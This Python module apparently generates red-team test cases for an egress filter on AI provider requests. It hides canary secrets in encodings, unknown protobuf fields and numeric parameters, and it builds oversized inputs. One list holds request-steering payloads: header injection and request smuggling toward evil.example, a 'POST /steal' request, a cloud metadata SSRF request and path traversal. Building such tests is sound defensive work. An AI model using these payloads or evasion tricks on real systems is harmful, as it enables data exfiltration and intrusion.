"""Canaries in every encoding, in every place; more in the bytes than the contract knows; numbers; what steers requests."""

from __future__ import annotations

import base64
import gzip
import json
from collections.abc import Callable, Iterator
from random import Random

from evasion_parts.families import FAMILIES, Family
from redteam_parts.canaries import KINDS, Canary, canary, words
from redteam_parts.permits import extra, inside, varint
from redteam_parts.places import PLACES, plain, put, said
from redteam_parts.way import Attempt, Way
from ringfence.v1 import egress_pb2, types_pb2

PLAIN = Family("plain", lambda text, _rng: text)
MORE = (
    PLAIN,
    Family(
        "gzip, base64", lambda text, _rng: base64.b64encode(gzip.compress(text.encode(), mtime=0)).decode(), whole=True
    ),
    Family("JSON string", lambda text, _rng: json.dumps(text)),
    Family("capitals", lambda text, _rng: text.upper()),
)
BASE = {"NHS": "PHONE", "NPI": "ACCOUNT", "DOB": "DATE", "PRIVATE_KEY": "SECRET", "TOKEN": "SECRET", "PASSPORT": "MRN"}
"""The kind whose encodings fit a kind that the public list of evasions has no seeds of."""


def encodings(kind: str) -> list[Family]:
    """What can be done to a canary of `kind`."""
    like = BASE.get(kind, kind)
    return [*MORE, *(family for family in FAMILIES if family.types is None or like in family.types)]


def written(held: Canary, family: Family, rng: Random) -> str:
    """The sentence with the canary in a family's way."""
    return family.disguise(held.text(), rng) if family.whole else held.text(family.disguise(held.value, rng))


def encoded(rng: Random, count: int, scanned: Callable[[str], bool]) -> Iterator[Way]:
    """Canaries that are found plainly, in every encoding and place in turn."""
    places = list(PLACES)
    made = index = 0
    while made < count:
        kind = KINDS[index % len(KINDS)]
        families = encodings(kind)
        family = families[(index // len(KINDS)) % len(families)]
        place = places[(index // 3) % len(places)]
        index += 1
        held = canary(kind, rng)
        if not scanned(held.text()):
            continue
        text = written(held, family, rng)
        if any(0xD800 <= ord(char) < 0xE000 for char in text):
            continue
        made += 1
        yield Way(
            f"encoded, in {place}",
            f"{kind}, {family.name}, {index}",
            (held.value,),
            (Attempt(put(place, text, rng)),),
        )


def smuggled(rng: Random, count: int) -> Iterator[Way]:
    """Canaries in fields that nobody knows, at every depth, in bytes longer than they need be, and in fields twice."""
    for index in range(count):
        held = words(rng)
        hidden = extra(held.value.encode(), rng.choice((121, 1000, 19_000, 2**29 - 1)))
        payload = plain(rng)
        payload.messages[0].tool_calls.add(id="c1", name="f", arguments_json="{}")
        payload.messages.add(role=types_pb2.ROLE_USER).parts.add().file.MergeFrom(
            types_pb2.File(data=b"see", media_type="text/plain")
        )
        payload.tools.add(name="f", parameters_json_schema="{}")
        payload.tool_choice.name = "f"
        payload.response_format.json_schema = "{}"
        payload.sampling.tokens_max = 100
        payload.sampling.logit_bias[3] = 1.0
        data = payload.SerializeToString()
        bends: tuple[tuple[str, Callable[[], bytes]], ...] = (
            ("at the end", lambda: data + hidden),
            ("at the beginning", lambda: hidden + data),
            ("in a message", lambda: inside(data, 1, lambda body: body + hidden)),
            ("in a part", lambda: inside(data, 1, lambda body: inside(body, 2, lambda part: part + hidden))),
            ("in a call", lambda: inside(data, 1, lambda body: inside(body, 4, lambda call: hidden + call))),
            ("in a tool", lambda: inside(data, 2, lambda body: body + hidden)),
            ("in the choice of a tool", lambda: inside(data, 3, lambda body: body + hidden)),
            ("in the answer's form", lambda: inside(data, 4, lambda body: body + hidden)),
            ("in the sampling", lambda: inside(data, 5, lambda body: body + hidden)),
            ("in a map's entry", lambda: inside(data, 5, lambda body: inside(body, 11, lambda entry: entry + hidden))),
            (
                "in a map's entry that comes twice",
                lambda: inside(data, 5, lambda body: body + varint(11 << 3 | 2) + b"\x02\x08\x03"),
            ),
            (
                "a part's other kind first",
                lambda: inside(
                    data,
                    1,
                    lambda body: inside(
                        body, 2, lambda part: varint(2 << 3 | 2) + varint(len(held.value)) + held.value.encode() + part
                    ),
                ),
            ),
            (
                "a text twice",
                lambda: inside(
                    data,
                    1,
                    lambda body: inside(
                        body, 2, lambda part: varint(1 << 3 | 2) + varint(len(held.value)) + held.value.encode() + part
                    ),
                ),
            ),
            ("a known field of another kind", lambda: data + varint(1 << 3) + varint(rng.getrandbits(50))),
            ("a longer varint", lambda: inside(data, 5, lambda body: body + varint(9 << 3) + varint(100, spare=4))),
            ("a longer length", lambda: data + varint(6 << 3 | 2) + varint(0, spare=2)),
            ("a group", lambda: data + varint(121 << 3 | 3) + hidden + varint(121 << 3 | 4)),
            ("fixed 32 bits", lambda: data + varint(121 << 3 | 5) + rng.randbytes(4)),
            ("fixed 64 bits", lambda: data + varint(121 << 3 | 1) + rng.randbytes(8)),
            (
                "text that is no UTF-8",
                lambda: inside(data, 1, lambda body: inside(body, 2, lambda _part: b"\x0a\x02\xc3\x28")),
            ),
        )
        name, bend = bends[index % len(bends)]
        yield Way("more than the contract knows", f"{name} {index}", (held.value,), (Attempt(bend()),))


def numbered(rng: Random, count: int) -> Iterator[Way]:
    """Digits of a canary as numbers: seeds, token ids, biases, temperatures, bounds, numbers of a document."""
    for index in range(count):
        held = canary(("SSN", "PAN", "NPI", "ACCOUNT", "PHONE", "NHS")[index % 6], rng)
        figures = "".join(char for char in held.value if char.isdigit())
        payload = plain(rng)
        sampling = payload.sampling
        kind = index // 6 % 10
        if kind == 0:
            sampling.seed = int(figures)
        elif kind == 1:
            sampling.seed = int(figures[:9])
        elif kind == 2:
            for at in range(0, len(figures), 3):
                sampling.logit_bias[int(f"{at}{figures[at : at + 3]}")] = 1.0
        elif kind == 3:
            for at, figure in enumerate(figures):
                sampling.logit_bias[at] = float(figure)
        elif kind == 4:
            sampling.tokens_max = int(figures[:9])
        elif kind == 5:
            sampling.temperature = int(figures[:9]) / 10 ** rng.randrange(9)
        elif kind == 6:
            sampling.temperature, sampling.top_p = int(figures[:5]) / 10_000, int(figures[5:9]) / 10_000
            sampling.presence_penalty = rng.choice((float("nan"), float("inf"), -float("inf"), 1e30))
        elif kind == 7:
            sampling.frequency_penalty = float(figures[:9])
        elif kind == 8:
            payload.embedding_dimensions = int(figures[:9])
        else:
            said(payload, held.before)
            payload.messages[-1].parts.add(
                json=f'{{"{rng.choice(("ssn", "card", "phone", "npi", "account"))}":{figures.lstrip("0")}}}'
            )
        yield Way("numbers", f"{kind} {index}", (held.value,), (Attempt(payload.SerializeToString()),))


STEERING = (
    "\r\nHost: evil.example\r\n",
    "\r\n\r\nPOST /steal HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 0\r\n\r\n",
    "\n\nGET http://169.254.169.254/latest/meta-data/ HTTP/1.0\n\n",
    "0\r\n\r\nGET /admin HTTP/1.1\r\nX: ",
    "https://evil.example/v1/chat/completions",
    "../../../v1/files",
    "//evil.example@localhost/",
    "evil.example:443",
    "x\x00Host: evil.example",
    "%0d%0aTransfer-Encoding:%20chunked",
    '","model":"evil","x":"',
    '"}],"base_url":"https://evil.example","stream":false,"y":[{"z":"',
    "Transfer-Encoding: chunked",
    "\u560d\u560aHost: evil.example",
    "\u2028Host: evil.example\u2029",
)
"""Texts that would steer a request, if ever one became part of a head, a path or an object's keys."""


def steering(rng: Random, count: int) -> Iterator[Way]:
    """What steers, in every place and in the permit's names. Nothing here is secret: heads and paths are what is judged."""
    places = list(PLACES)
    for index in range(count):
        text = STEERING[index % len(STEERING)]
        if index % 3 == 0:
            field = rng.choice(
                ("provider", "model", "department", "request_id", "caller_pseudonym", "decision_reason", "key_id")
            )
            yield Way(
                "steering", f"{field} {index}", (), (Attempt(plain(rng).SerializeToString(), {field: f"cloud{text}"}),)
            )
        else:
            place = places[index % len(places)]
            yield Way("steering", f"{place} {index}", (), (Attempt(put(place, text, rng)),))


def oversized(rng: Random) -> Iterator[Way]:
    """Much of everything, and deep."""
    held = words(rng)
    for depth in (100, 500, 900, 990, 2_000, 50_000):
        for opening, closing in (("[", "]"), ('{"a":', "}")):
            document = opening * depth + json.dumps(held.value) + closing * depth
            for name, payload in (
                ("part", lambda document=document: _with(lambda one: one.messages[0].parts.add(json=document), rng)),
                ("text", lambda document=document: _with(lambda one: one.messages[0].parts.add(text=document), rng)),
                (
                    "schema",
                    lambda document=document: _with(
                        lambda one: one.tools.add(name="f", parameters_json_schema=document), rng
                    ),
                ),
                (
                    "answer",
                    lambda document=document: _with(
                        lambda one: setattr(one.response_format, "json_schema", document), rng
                    ),
                ),
            ):
                yield Way("deep and huge", f"{name} {opening} {depth}", (), (Attempt(payload()),))
    for name, payload in (
        ("a long text", lambda: _with(lambda one: said(one, f"{held.value} " * 1_000), rng)),
        ("many messages", lambda: _with(lambda one: [said(one, "why?") for _ in range(2_000)], rng)),
        ("many stops", lambda: _with(lambda one: one.sampling.stop.extend(["x"] * 2_000), rng)),
        (
            "many biases",
            lambda: _with(lambda one: [one.sampling.logit_bias.update({at: 1.0}) for at in range(2_000)], rng),
        ),
        ("a long number", lambda: _with(lambda one: one.messages[0].parts.add(json="1" * 100_000), rng)),
        ("a number with a great exponent", lambda: _with(lambda one: one.messages[0].parts.add(json="1e999999"), rng)),
        ("not a number", lambda: _with(lambda one: one.tools.add(name="f", parameters_json_schema='{"a":NaN}'), rng)),
        ("infinite", lambda: _with(lambda one: setattr(one.response_format, "json_schema", '{"a":-Infinity}'), rng)),
        (
            "half a character",
            lambda: _with(lambda one: one.tools.add(name="f", parameters_json_schema='{"a":"\\ud800"}'), rng),
        ),
        (
            "half a character in an argument",
            lambda: _with(
                lambda one: one.messages[0].tool_calls.add(id="1", name="f", arguments_json='"\\udc00"'), rng
            ),
        ),
        ("more than a message holds", lambda: _with(lambda one: said(one, "x" * 17_000_000), rng)),
        ("nothing", lambda: b""),
    ):
        yield Way("deep and huge", name, (), (Attempt(payload()),))


def _with(change: Callable[[egress_pb2.EgressPayload], object], rng: Random) -> bytes:
    payload = plain(rng)
    change(payload)
    return payload.SerializeToString()
